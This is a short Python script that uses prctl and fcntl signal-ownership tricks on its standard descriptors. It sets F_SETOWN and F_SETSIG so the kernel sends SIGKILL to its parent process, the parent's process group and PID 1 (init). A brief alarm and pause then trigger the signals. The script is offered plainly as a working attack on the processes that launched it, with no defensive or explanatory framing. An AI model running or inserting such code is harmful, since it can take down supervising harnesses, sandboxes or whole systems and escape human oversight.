"""Asks the kernel to signal its parents for it: parent death, owners of descriptors, alarms, a lost session."""
import ctypes, fcntl, os, signal

libc = ctypes.CDLL(None)
libc.prctl(1, signal.SIGKILL)
libc.prctl(36, 1)
for fd in range(3):
    for owner in (os.getppid(), 1, -os.getpgid(os.getppid())):
        for command in (fcntl.F_SETOWN, 10):
            try:
                fcntl.fcntl(fd, command, owner if command == fcntl.F_SETOWN else signal.SIGKILL)
                fcntl.fcntl(fd, fcntl.F_SETFL, os.O_ASYNC)
            except OSError:
                pass
signal.setitimer(signal.ITIMER_REAL, 0.05)
signal.pause()
